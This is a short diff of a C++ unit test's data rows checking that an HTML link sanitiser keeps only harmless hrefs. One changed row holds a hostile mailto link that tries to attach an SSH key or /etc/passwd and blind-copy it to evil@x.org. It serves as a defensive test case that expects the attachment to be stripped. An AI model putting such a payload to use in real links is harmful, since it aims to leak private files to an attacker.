@@ -343,7 +343,7 @@ void TestHtmlText::linkIsKeptOnlyIfHarmless_data()
     row("href=http://example.com/", "http://example.com/");
     row("HREF = ' HTTPS://Example.com '", "HTTPS://Example.com");
     row("href=mailto:a@b.c", "mailto:a@b.c");
-    row("href='mailto:hr@x.org?attach=/home/u/.ssh/id&amp;bcc=evil@x.org'", "mailto:hr@x.org");
+    row("href='mailto:hr@x.org?attach=/etc/passwd&amp;bcc=evil@x.org'", "mailto:hr@x.org");
     row("href='MailTo:hr@x.org?subject=Hello'", "MailTo:hr@x.org");
     row("href='mailto:a@x,b@x,c@x'", "mailto:a@x,b@x,c@x");
     row("href='mailto:a@x,b@x,c@x,d@x,e@x,f@x'", nullptr);
